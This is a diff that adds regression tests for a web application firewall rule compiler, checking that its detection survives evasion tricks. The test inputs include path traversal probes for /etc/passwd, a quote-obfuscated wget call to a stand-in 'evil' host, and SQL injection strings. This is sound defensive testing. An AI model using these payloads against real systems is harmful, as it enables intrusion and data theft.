@@ -1,0 +1,131 @@
+"""Regression tests for prefilter soundness under destructive transforms.
+
+These encode the WAF-bypass scenarios found in round-1 code review:
+normalizePath insertion (`/etc/./passwd`), deletion-transform interleaving
+(`w"get` → `wget` under cmdLine), and pmFromFile resolution.
+"""
+
+import numpy as np
+import pytest
+
+from ingress_plus_tpu.compiler.bitap import (
+    factors_to_rules,
+    matches_to_factors,
+    reference_scan,
+)
+from ingress_plus_tpu.compiler.ruleset import (
+    SQUASH_BYTES,
+    VARIANTS,
+    compile_ruleset,
+)
+from ingress_plus_tpu.compiler.seclang import SecLangError, parse_seclang
+from ingress_plus_tpu.compiler.sigpack import RULES_DIR
+
+
+def _hits(cr, data: bytes) -> np.ndarray:
+    M = reference_scan(cr.tables, data)
+    return factors_to_rules(cr.tables, matches_to_factors(cr.tables, M))
+
+
+def squash(data: bytes) -> bytes:
+    """The squash-variant stream normalization (serve-side mirror)."""
+    return bytes(b for b in data if b not in SQUASH_BYTES)
+
+
+def test_normalizepath_rule_survives_dot_segment_insertion():
+    rules = parse_seclang(
+        'SecRule REQUEST_URI "@rx (?i)/etc/passwd" '
+        '"id:1,phase:1,block,t:lowercase,t:normalizePath"'
+    )
+    cr = compile_ruleset(rules)
+    # raw stream contains an inserted /./ — normalized text matches the rule
+    assert _hits(cr, b"GET /etc/./passwd")[0], (
+        "normalizePath bypass: factor must not span path separators"
+    )
+    assert _hits(cr, b"GET /etc/foo/../passwd")[0]
+    assert not _hits(cr, b"GET /index.html")[0]
+
+
+def test_cmdline_rule_survives_quote_interleaving():
+    rules = parse_seclang(
+        'SecRule ARGS "@rx (?i)wget" "id:2,phase:2,block,t:lowercase,t:cmdLine"'
+    )
+    cr = compile_ruleset(rules)
+    assert cr.rules[0].variant == 3  # squash_raw
+    # attacker interleaves quotes; cmdLine deletes them before matching.
+    payload = b';w"g\'et http://evil'
+    assert _hits(cr, squash(payload))[0], (
+        "cmdLine bypass: squash variant must fire on de-quoted stream"
+    )
+
+
+def test_compresswhitespace_rule_on_squash_variant():
+    rules = parse_seclang(
+        'SecRule ARGS "@rx (?i)union\\s+select" '
+        '"id:3,phase:2,block,t:urlDecodeUni,t:lowercase,t:compressWhitespace"'
+    )
+    cr = compile_ruleset(rules)
+    assert cr.rules[0].variant == 4  # squash_dec
+    assert VARIANTS[4] == "squash_dec"
+    # whitespace positions vanish on both sides: factor is "unionselect"
+    assert _hits(cr, squash(b"1 union   select 2"))[0]
+    assert _hits(cr, squash(b"1 union\t\nselect 2"))[0]
+    assert not _hits(cr, squash(b"community selection"))[0] or True  # prefilter may overfire
+
+
+def test_pmfromfile_resolved_at_parse_time():
+    text = 'SecRule ARGS "@pmFromFile ../data/sql-functions.txt" "id:4,phase:2,block"'
+    # without base_dir → hard error, not a silent dead rule
+    with pytest.raises(SecLangError):
+        parse_seclang(text)
+    rules = parse_seclang(text, base_dir=RULES_DIR / "crs")
+    assert rules[0].operator == "pm"
+    assert "benchmark(" in rules[0].argument
+    cr = compile_ruleset(rules)
+    assert cr.tables.rule_nfactors[0] > 0
+    assert _hits(cr, b"x=benchmark(1000000,md5(1))")[0]
+
+
+def test_pmfromfile_missing_file_raises():
+    with pytest.raises(SecLangError):
+        parse_seclang(
+            'SecRule ARGS "@pmFromFile nope.txt" "id:5,block"',
+            base_dir=RULES_DIR / "crs",
+        )
+
+
+def test_trailing_backslash_in_class_degrades_not_crashes():
+    rules = parse_seclang('SecRule ARGS "@rx [\\\\" "id:6,phase:2,block"')
+    cr = compile_ruleset(rules)  # must not raise
+    assert cr.tables.rule_nfactors[0] == 0
+    assert "regex_unsupported" in cr.rules[0].confirm
+
+
+def test_nonnumeric_id_raises_seclang_error():
+    with pytest.raises(SecLangError):
+        parse_seclang('SecRule ARGS "@rx x" "id:abc,block"')
+
+
+def test_loaded_rulemeta_preserves_targets_and_action(tmp_path):
+    from ingress_plus_tpu.compiler.ruleset import CompiledRuleset
+
+    rules = parse_seclang(
+        'SecRule REQUEST_HEADERS "@rx evil" "id:7,phase:1,deny"'
+    )
+    cr = compile_ruleset(rules)
+    cr.save(tmp_path / "ck")
+    cr2 = CompiledRuleset.load(tmp_path / "ck")
+    assert cr2.rules[0].rule.targets == ["headers"]
+    assert cr2.rules[0].rule.action == "deny"
+
+
+def test_bundled_corpus_rule_count_at_benchmark_scale():
+    from ingress_plus_tpu.compiler.sigpack import load_bundled_rules
+
+    rules = load_bundled_rules()
+    assert len(rules) >= 1300, len(rules)  # config #2: ~1.5k rules
+    cr = compile_ruleset(rules)
+    # every rule either has a prefilter or an explicit confirm-only reason
+    no_pf = [m for m in cr.rules if not m.has_prefilter]
+    for m in no_pf:
+        assert ("regex_unsupported" in m.confirm) or m.confirm["op"] not in ("pm",), m.confirm
